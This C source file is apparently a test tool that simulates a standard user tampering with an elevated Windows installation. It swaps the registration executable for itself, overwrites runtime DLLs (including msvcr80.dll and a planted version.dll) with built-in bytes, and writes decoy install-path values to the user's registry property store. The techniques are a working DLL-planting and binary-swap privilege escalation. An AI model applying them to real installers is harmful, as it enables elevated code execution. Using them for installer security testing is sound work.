/* What a standard user (or malware in the user's session) can do to an elevated
 * installation, for the end-to-end scenario: the test package runs this program as the
 * user between the runtime extraction and the script.
 *
 *   tamper.exe /plant <runtime folder> swap    puts itself in place of the registration
 *                                              program and writes the store's decoys
 *   tamper.exe /plant <runtime folder> store   writes only the decoys
 *   tamper.exe /plant <runtime folder> attack  swaps the program and writes the decoys,
 *                                              puts planted.dll (built in, PLANTED_DLL)
 *                                              in place of the allocator library, the
 *                                              string library (no texts) and msvcr80.dll,
 *                                              and adds it as version.dll
 *
 * The decoys: INSTALLDIR and CURRENT_PROCESS_DIRECTORY in the user's deferred property
 * store. Run later in place of the registration program, it only records the command
 * line it got in C:\ProgramData\FA9StandIns\swapped.txt. Windows only. */
#include "standin.h"

#define STORE "SOFTWARE\\ZNK\\FA9\\TEMP\\PROPERTIES95"
#define DECOY "C:\\Decoy"

#ifdef PLANTED_DLL
#include PLANTED_DLL
#else
static const unsigned char planted_dll[] = {0};
#endif

/* The planted DLL's bytes over `path`, whatever was there. */
static int plant_dll(const char *path) {
    DWORD written = 0;
    HANDLE file = CreateFileA(path, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, NULL);
    BOOL ok;
    if (file == INVALID_HANDLE_VALUE) return 0;
    ok = WriteFile(file, planted_dll, sizeof planted_dll, &written, NULL) && written == sizeof planted_dll;
    CloseHandle(file);
    return ok;
}

static int plant(const char *runtime, const char *mode) {
    char self[MAX_PATH], target[MAX_PATH + 32];
    HKEY store;
    FILE *f = standin_record("tamper.txt", "w");
    if (standin_same(mode, "swap")) {
        GetModuleFileNameA(NULL, self, sizeof self);
        snprintf(target, sizeof target, "%s\\commontoolreg.exe", runtime);
        if (f) fprintf(f, "swap %s: %s\n", target, CopyFileA(self, target, FALSE) ? "done" : "failed");
    }
    if (standin_same(mode, "attack")) {
        static const char *const targets[] = {"fa9osse_install3.dll", "fa9istring_v97.dll",
                                               "Microsoft.VC80.CRT\\msvcr80.dll", "Microsoft.VC80.CRT\\version.dll"};
        size_t i;
        GetModuleFileNameA(NULL, self, sizeof self);
        snprintf(target, sizeof target, "%s\\commontoolreg.exe", runtime);
        if (f) fprintf(f, "swap %s: %s\n", target, CopyFileA(self, target, FALSE) ? "done" : "failed");
        for (i = 0; i < sizeof targets / sizeof targets[0]; ++i) {
            snprintf(target, sizeof target, "%s\\%s", runtime, targets[i]);
            if (f) fprintf(f, "plant %s: %s\n", target, plant_dll(target) ? "done" : "failed");
        }
    }
    if (RegCreateKeyExA(HKEY_CURRENT_USER, STORE, 0, NULL, 0, KEY_SET_VALUE, NULL, &store, NULL) == ERROR_SUCCESS) {
        RegSetValueExA(store, "INSTALLDIR", 0, REG_SZ, (const BYTE *)DECOY "\\", sizeof DECOY "\\");
        RegSetValueExA(store, "CURRENT_PROCESS_DIRECTORY", 0, REG_SZ, (const BYTE *)DECOY, sizeof DECOY);
        RegCloseKey(store);
        if (f) fprintf(f, "store decoys written\n");
    }
    if (f) fclose(f);
    return 0;
}

int main(int argc, char **argv) {
    FILE *f;
    if (argc >= 4 && standin_same(argv[1], "/plant")) return plant(argv[2], argv[3]);
    f = standin_record("swapped.txt", "a");
    if (f) {
        fprintf(f, "%s\n", GetCommandLineA());
        fclose(f);
    }
    return 0;
}
